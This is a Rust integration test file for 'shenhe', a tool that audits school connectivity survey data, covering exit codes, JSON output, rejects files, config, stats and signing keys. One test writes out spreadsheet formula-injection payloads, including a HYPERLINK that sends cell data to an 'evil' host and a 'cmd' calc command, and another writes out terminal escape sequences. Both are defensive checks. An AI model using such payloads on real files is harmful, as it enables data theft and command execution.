//! The real binary: exit codes, `--json` shapes, the rejects file, config handling, languages.

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

struct Home(tempfile::TempDir);

impl Home {
    fn new() -> Home {
        Home(tempfile::tempdir().unwrap())
    }

    fn path(&self) -> &Path {
        self.0.path()
    }

    /// Runs shenhe with SHENHE_HOME here and a fixed clock.
    fn run(&self, args: &[&str]) -> Output {
        Command::new(env!("CARGO_BIN_EXE_shenhe"))
            .args(args)
            .env("SHENHE_HOME", self.path())
            .env("SHENHE_NOW", "2026-10-02T09:00:00+08:00")
            .env_remove("LANG")
            .output()
            .unwrap()
    }
}

fn fixture(name: &str) -> String {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/data").join(name).display().to_string()
}

fn stdout(o: &Output) -> String {
    String::from_utf8(o.stdout.clone()).unwrap()
}

fn stderr(o: &Output) -> String {
    String::from_utf8(o.stderr.clone()).unwrap()
}

fn json(o: &Output) -> serde_json::Value {
    serde_json::from_slice(&o.stdout).unwrap_or_else(|e| panic!("{e}: {}", stdout(o)))
}

#[test]
fn import_json_has_exactly_the_documented_keys() {
    let home = Home::new();
    let out = home.run(&["import", &fixture("reordered_extra.csv"), "--period", "2026Q3", "--json"]);
    assert!(out.status.success(), "{}", stderr(&out));
    let v = json(&out);
    for key in [
        "period",
        "files",
        "rows",
        "schools",
        "new_schools",
        "new_revisions",
        "unchanged",
        "unfilled",
        "rejected",
        "extra_columns",
    ] {
        assert!(v.get(key).is_some(), "missing {key} in {v}");
    }
    assert_eq!(v["period"], "2026Q3");
    assert_eq!(v["rows"], 5);
    assert_eq!(v["new_schools"], 5);
    assert_eq!(v["extra_columns"], serde_json::json!(["备注", "校长姓名"]));

    let again = json(&home.run(&["import", &fixture("reordered_extra.csv"), "--period", "2026Q3", "--json"]));
    assert_eq!((again["new_schools"].as_u64(), again["unchanged"].as_u64()), (Some(0), Some(5)));
}

#[test]
fn list_json_and_state_filter() {
    let home = Home::new();
    assert!(home.run(&["import", &fixture("unfilled.csv"), "--period", "2026Q3"]).status.success());
    let all = json(&home.run(&["list", "--period", "2026Q3", "--json"]));
    let rows = all.as_array().unwrap();
    assert_eq!(rows.len(), 5);
    let keys: Vec<&String> = rows[0].as_object().unwrap().keys().collect();
    assert_eq!(keys, ["school_code", "name", "school_type", "county", "state", "findings"]);
    let unfilled = json(&home.run(&["list", "--state", "unfilled", "--json"]));
    assert_eq!(unfilled.as_array().unwrap().len(), 3);
    let by_chinese = json(&home.run(&["list", "--state", "未填报", "--json"]));
    assert_eq!(by_chinese, unfilled);
    let bad = home.run(&["list", "--state", "done"]);
    assert_eq!(bad.status.code(), Some(2));
    assert!(stderr(&bad).contains("unfilled"), "{}", stderr(&bad));
}

#[test]
fn refused_import_exits_1_shows_at_most_20_and_writes_all_to_the_rejects_file() {
    let home = Home::new();
    // 30 rows with text in the students column.
    let mut csv = String::from("学校标识码,学校名称,学生数\n");
    for i in 0..30 {
        csv.push_str(&format!("21410102{i:02},学校{i},很多\n"));
    }
    let bad = home.path().join("坏数据.csv");
    std::fs::write(&bad, csv).unwrap();
    let rejects = home.path().join("rejects.csv");

    let out = home.run(&["import", bad.to_str().unwrap(), "--period", "2026Q3"]);
    assert_eq!(out.status.code(), Some(1));
    let err = stderr(&out);
    assert_eq!(err.matches("学生数: 内容为“很多”").count(), 20, "{err}");
    assert!(err.contains("另有 10 处错误未显示"), "{err}");

    let out =
        home.run(&["import", bad.to_str().unwrap(), "--period", "2026Q3", "--rejects", rejects.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(1));
    let bytes = std::fs::read(&rejects).unwrap();
    assert!(bytes.starts_with(b"\xEF\xBB\xBF"), "UTF-8 with BOM for Excel");
    let text = String::from_utf8(bytes[3..].to_vec()).unwrap();
    assert_eq!(text.lines().count(), 31);
    assert!(text.lines().nth(1).unwrap().contains(",2,学生数,很多,"), "{text}");

    // Nothing landed.
    let list = home.run(&["list", "--json"]);
    assert_eq!(list.status.code(), Some(1), "no period exists: {}", stdout(&list));
}

/// A refused cell is often the very text that must not run when the rejects list is opened in
/// Excel: every cell of it goes through the formula guard.
#[test]
fn formulas_in_refused_cells_do_not_survive_into_the_rejects_file() {
    let home = Home::new();
    let hostile = ["=HYPERLINK(\"http://evil/?\"&A1,\"x\")", "+cmd|' /C calc'!A0", "@SUM(1+1)", "-1+2"];
    let mut csv = String::from("学校标识码,学校名称,学生数\n");
    for (i, cell) in hostile.iter().enumerate() {
        csv.push_str(&format!("214101020{i},学校{i},\"{}\"\n", cell.replace('"', "\"\"")));
    }
    let bad = home.path().join("bad.csv");
    std::fs::write(&bad, csv).unwrap();
    let rejects = home.path().join("rejects.csv");
    let out =
        home.run(&["import", bad.to_str().unwrap(), "--period", "2026Q3", "--rejects", rejects.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(1));
    let bytes = std::fs::read(&rejects).unwrap();
    let mut reader = csv::Reader::from_reader(&bytes[3..]);
    let values: Vec<String> = reader.records().map(|r| r.unwrap()[3].to_string()).collect();
    let expected: Vec<String> = hostile.iter().map(|c| format!("'{c}")).collect();
    assert_eq!(values, expected);
    for record in csv::Reader::from_reader(&bytes[3..]).records() {
        for cell in record.unwrap().iter() {
            assert!(!cell.starts_with(['=', '+', '@']) && !cell.starts_with("-1+"), "{cell:?} would run in Excel");
        }
    }
}

/// Control characters never get into the store: a school name carrying a terminal escape is
/// refused at import with its place; a reason typed with one is refused before anything is
/// decided; a name's line break becomes a space, so `list` shows it on one line.
#[test]
fn control_characters_are_refused_at_import_and_in_typed_reasons() {
    let home = Home::new();
    let sheet = |name: &str| format!("学校标识码,学校名称,学生数\n2141010201,\"{name}\",300\n");
    let bad = home.path().join("bad.csv");
    std::fs::write(&bad, sheet("一小\u{1b}[2J\r伪造行")).unwrap();
    let out = home.run(&["import", bad.to_str().unwrap(), "--period", "2026Q3"]);
    assert_eq!(out.status.code(), Some(1));
    assert!(stderr(&out).contains("bad.csv:2:学校名称: 含有控制字符或不可见字符 U+001B"), "{}", stderr(&out));
    assert!(!stderr(&out).contains('\u{1b}'));

    let good = home.path().join("good.csv");
    std::fs::write(&good, sheet("一小\r\n分校")).unwrap();
    assert_eq!(home.run(&["import", good.to_str().unwrap(), "--period", "2026Q3"]).status.code(), Some(0));
    let list = json(&home.run(&["list", "--period", "2026Q3", "--json"]));
    assert_eq!(list[0]["name"], "一小 分校", "{list}");

    let out = home.run(&["return", "--period", "2026Q3", "--school", "2141010201", "--reason", "带宽\u{1b}[31m有误"]);
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    assert!(stderr(&out).contains("U+001B"), "{}", stderr(&out));
    let list = json(&home.run(&["list", "--period", "2026Q3", "--json"]));
    assert_ne!(list[0]["state"], "returned", "nothing decided: {list}");
}

/// `[limits]` in the config: a province with longer school names raises `name_chars`.
#[test]
fn a_province_sets_its_own_field_limits() {
    let home = Home::new();
    let long = "名".repeat(150);
    let sheet = home.path().join("long.csv");
    std::fs::write(&sheet, format!("学校标识码,学校名称,学生数\n2141010201,{long},300\n")).unwrap();
    let out = home.run(&["import", sheet.to_str().unwrap(), "--period", "2026Q3"]);
    assert!(
        stderr(&out).contains("long.csv:2:学校名称:") && stderr(&out).contains("不超过 100 个字符"),
        "{}",
        stderr(&out)
    );
    std::fs::write(home.path().join("config.toml"), "[limits]\nname_chars = 200\n").unwrap();
    assert_eq!(home.run(&["import", sheet.to_str().unwrap(), "--period", "2026Q3"]).status.code(), Some(0));
    std::fs::write(home.path().join("config.toml"), "[limits]\ntext_chars = 40000\n").unwrap();
    let out = home.run(&["import", sheet.to_str().unwrap(), "--period", "2026Q3"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(stderr(&out).contains("limits.text_chars"), "{}", stderr(&out));
}

#[test]
fn english_on_request() {
    let home = Home::new();
    let out = home.run(&["--lang", "en", "import", &fixture("text_in_number.csv"), "--period", "2026Q3"]);
    assert!(stderr(&out).contains("Import refused, the database is unchanged"), "{}", stderr(&out));
    let out = home.run(&["import", &fixture("text_in_number.csv"), "--period", "2026Q3", "--lang", "en"]);
    assert!(stderr(&out).contains(":4:学生数: found \"abc\""), "{}", stderr(&out));
    let help = home.run(&["--lang", "en", "import", "--help"]);
    assert!(stdout(&help).contains("Reporting period"), "{}", stdout(&help));
    let help = home.run(&["import", "--help"]);
    assert!(stdout(&help).contains("填报期次"), "{}", stdout(&help));
}

#[test]
fn a_bad_period_is_a_usage_error() {
    let home = Home::new();
    let out = home.run(&["import", &fixture("utf8.csv"), "--period", "2026Q5"]);
    assert_eq!(out.status.code(), Some(2));
}

#[test]
fn shenhe_home_holds_config_database_keys_and_logs() {
    let home = Home::new();
    let v = json(&home.run(&["config", "path", "--json"]));
    for key in ["config", "database", "keys_dir", "log_dir"] {
        let p = PathBuf::from(v[key].as_str().unwrap());
        assert!(p.starts_with(home.path()), "{key}: {}", p.display());
    }
    let other = home.path().join("elsewhere.db");
    let v = json(&home.run(&["config", "path", "--json", "--db", other.to_str().unwrap()]));
    assert_eq!(v["database"], other.to_str().unwrap());
}

#[test]
fn config_init_writes_the_example_once() {
    let home = Home::new();
    let out = home.run(&["config", "init"]);
    assert!(out.status.success(), "{}", stderr(&out));
    let written = std::fs::read_to_string(home.path().join("config.toml")).unwrap();
    assert!(written.contains("bandwidth_denominator"));
    std::fs::write(home.path().join("config.toml"), "lang = \"en\"\n").unwrap();
    let again = home.run(&["config", "init"]);
    assert_eq!(again.status.code(), Some(1));
    assert_eq!(std::fs::read_to_string(home.path().join("config.toml")).unwrap(), "lang = \"en\"\n");
    // And the config's language now applies.
    let out = home.run(&["import", &fixture("empty.csv"), "--period", "2026Q3"]);
    assert!(stderr(&out).contains("is empty"), "{}", stderr(&out));
}

#[test]
fn an_unknown_config_key_is_an_error_naming_key_and_file() {
    let home = Home::new();
    std::fs::write(home.path().join("config.toml"), "[auditor]\nname = \"张敏\"\nphone_number = \"1\"\n").unwrap();
    let out = home.run(&["list"]);
    assert_eq!(out.status.code(), Some(2));
    let err = stderr(&out);
    assert!(err.contains("auditor.phone_number") && err.contains("config.toml"), "{err}");
}

#[test]
fn first_run_says_how_to_import() {
    let home = Home::new();
    let out = home.run(&[]);
    assert!(out.status.success());
    assert!(stdout(&out).contains("shenhe import"), "{}", stdout(&out));
}

#[test]
fn a_non_database_file_is_refused_and_kept() {
    let home = Home::new();
    let doc = home.path().join("notes.db");
    std::fs::write(&doc, "my notes").unwrap();
    let out = home.run(&["--db", doc.to_str().unwrap(), "list"]);
    assert_eq!(out.status.code(), Some(1));
    assert!(stderr(&out).contains("不是 shenhe 数据库"), "{}", stderr(&out));
    assert_eq!(std::fs::read_to_string(&doc).unwrap(), "my notes");
}

#[test]
fn demo_shows_the_sample_county() {
    let home = Home::new();
    let out = home.run(&["demo"]);
    assert!(out.status.success(), "{}", stderr(&out));
    let text = stdout(&out);
    assert!(text.contains("中原区") && text.contains("2026Q3 期"), "{text}");
}

// statistics and dispatch lists (stats, dispatch)

const STATS_KEYS: [&str; 11] = [
    "schools",
    "filled",
    "unfilled",
    "connected",
    "unconnected",
    "bandwidth_100m",
    "zero_multimedia",
    "fill_rate",
    "connected_rate",
    "bandwidth_100m_rate",
    "multimedia_rate",
];

/// A home holding the sample county's 2026Q3.
fn sample_home() -> Home {
    let home = Home::new();
    let sample = Path::new(env!("CARGO_MANIFEST_DIR")).join("assets/sample/2026Q3_中原区.xlsx");
    let out = home.run(&["import", sample.to_str().unwrap(), "--period", "2026Q3"]);
    assert!(out.status.success(), "{}", stderr(&out));
    home
}

fn keys(v: &serde_json::Value) -> Vec<&str> {
    v.as_object().unwrap_or_else(|| panic!("not an object: {v}")).keys().map(String::as_str).collect()
}

#[test]
fn stats_json_has_exactly_the_documented_keys_and_rates_as_numbers() {
    let home = sample_home();
    let v = json(&home.run(&["stats", "--json"]));
    assert_eq!(keys(&v), STATS_KEYS);
    assert_eq!((v["schools"].as_u64(), v["filled"].as_u64(), v["unfilled"].as_u64()), (Some(195), Some(187), Some(8)));
    assert_eq!(v["fill_rate"], serde_json::json!(95.9));
    assert_eq!(v["connected_rate"], serde_json::json!(92.82));
    assert_eq!(v["bandwidth_100m_rate"], serde_json::json!(77.95));

    std::fs::write(home.path().join("config.toml"), "[stats]\nbandwidth_denominator = \"connected\"\n").unwrap();
    let v = json(&home.run(&["stats", "--period", "2026Q3", "--json"]));
    assert_eq!(v["bandwidth_100m_rate"], serde_json::json!(83.98));
}

#[test]
fn stats_by_county_or_type_json_is_an_array_with_the_group_first() {
    let home = sample_home();
    let v = json(&home.run(&["stats", "--by", "county", "--json"]));
    let rows = v.as_array().unwrap();
    assert_eq!(rows.len(), 1, "{v}");
    assert_eq!(keys(&rows[0])[..2], ["county_code", "county"]);
    assert_eq!(keys(&rows[0])[2..], STATS_KEYS);
    assert_eq!((rows[0]["county_code"].as_str(), rows[0]["county"].as_str()), (Some("410102"), Some("中原区")));
    assert_eq!(rows[0]["schools"], 195);

    let v = json(&home.run(&["stats", "--by", "school_type", "--json"]));
    let rows = v.as_array().unwrap();
    assert!(rows.len() > 1, "{v}");
    assert!(rows.iter().all(|r| keys(r)[0] == "school_type" && keys(r)[1..] == STATS_KEYS), "{v}");
    let sum: u64 = rows.iter().map(|r| r["schools"].as_u64().unwrap()).sum();
    assert_eq!(sum, 195);
    assert_eq!(home.run(&["stats", "--by", "city"]).status.code(), Some(2));
}

#[test]
fn dispatch_json_has_the_three_lists_of_schools() {
    let home = sample_home();
    let v = json(&home.run(&["dispatch", "--period", "2026Q3", "--json"]));
    assert_eq!(keys(&v), ["not_connected", "under_100m", "no_multimedia"]);
    let sizes: Vec<usize> = keys(&v).iter().map(|k| v[k].as_array().unwrap().len()).collect();
    assert_eq!(sizes, [6, 29, 8]);
    let first = &v["not_connected"][0];
    assert_eq!(keys(first), ["school_code", "name", "city", "county", "school_type"]);
    assert_eq!(first["school_code"], "2141010304");
    assert_eq!(first["school_type"], "教学点");
}

#[test]
fn stats_and_dispatch_tables_in_chinese_and_in_english() {
    let home = sample_home();
    let zh = stdout(&home.run(&["stats"]));
    assert!(zh.contains("互联网接入率") && zh.contains("92.82%") && zh.contains("\"all\""), "{zh}");
    let en = stdout(&home.run(&["stats", "--by", "school_type", "--lang", "en"]));
    assert!(en.contains("Conn. rate") && en.contains("teaching point") && en.contains("Total"), "{en}");

    std::fs::write(home.path().join("config.toml"), "[auditor]\nname = \"张敏\"\nphone = \"0371-6881\"\n").unwrap();
    let zh = stdout(&home.run(&["dispatch"]));
    assert!(zh.contains("填表人：张敏") && zh.contains("联系电话：0371-6881"), "{zh}");
    assert!(zh.contains("填表日期：2026-10-02") && zh.contains("带宽不足 100M 学校"), "{zh}");
    let en = stdout(&home.run(&["dispatch", "--lang", "en"]));
    assert!(en.contains("Prepared by: 张敏") && en.contains("Under 100M"), "{en}");
}

// the signing key (key init, key show)

#[test]
fn key_init_makes_one_key_and_show_prints_the_line_the_city_needs() {
    let home = Home::new();
    let out = home.run(&["key", "show"]);
    assert_eq!(out.status.code(), Some(1), "no key yet");
    assert!(stderr(&out).contains("shenhe key init"), "{}", stderr(&out));

    let out = home.run(&["key", "init"]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(stdout(&out).contains("SHA256:"));
    let private = std::fs::read_to_string(home.path().join("keys/shenhe_ed25519")).unwrap();
    assert!(private.starts_with("-----BEGIN OPENSSH PRIVATE KEY-----"));
    let again = home.run(&["key", "init"]);
    assert_eq!(again.status.code(), Some(1), "never overwrites");
    assert_eq!(std::fs::read_to_string(home.path().join("keys/shenhe_ed25519")).unwrap(), private);

    let out = home.run(&["key", "show", "--allowed-signers"]);
    assert_eq!(out.status.code(), Some(2), "the principal is the county code, which is not set");
    assert!(stderr(&out).contains("[county]"), "{}", stderr(&out));

    std::fs::write(home.path().join("config.toml"), "[county]\ncode = \"410102\"\nname = \"中原区\"\n").unwrap();
    let out = home.run(&["key", "show", "--allowed-signers"]);
    assert!(out.status.success(), "{}", stderr(&out));
    let line = stdout(&out);
    assert_eq!(line.lines().count(), 1);
    assert!(line.starts_with("410102 namespaces=\"shenhe-bundle\" ssh-ed25519 AAAA"), "{line}");
    let shown = json(&home.run(&["key", "show", "--json"]));
    assert_eq!(shown["allowed_signers"].as_str().unwrap(), line.trim_end());
    assert!(shown["fingerprint"].as_str().unwrap().starts_with("SHA256:"));
    // The private key appears in no output.
    let body: String = private.lines().filter(|l| !l.starts_with("-----")).collect();
    for args in [&["key", "show"][..], &["key", "show", "--json"], &["key", "init"]] {
        let out = home.run(args);
        assert!(!stdout(&out).contains(&body[..40]) && !stderr(&out).contains(&body[..40]));
    }
}
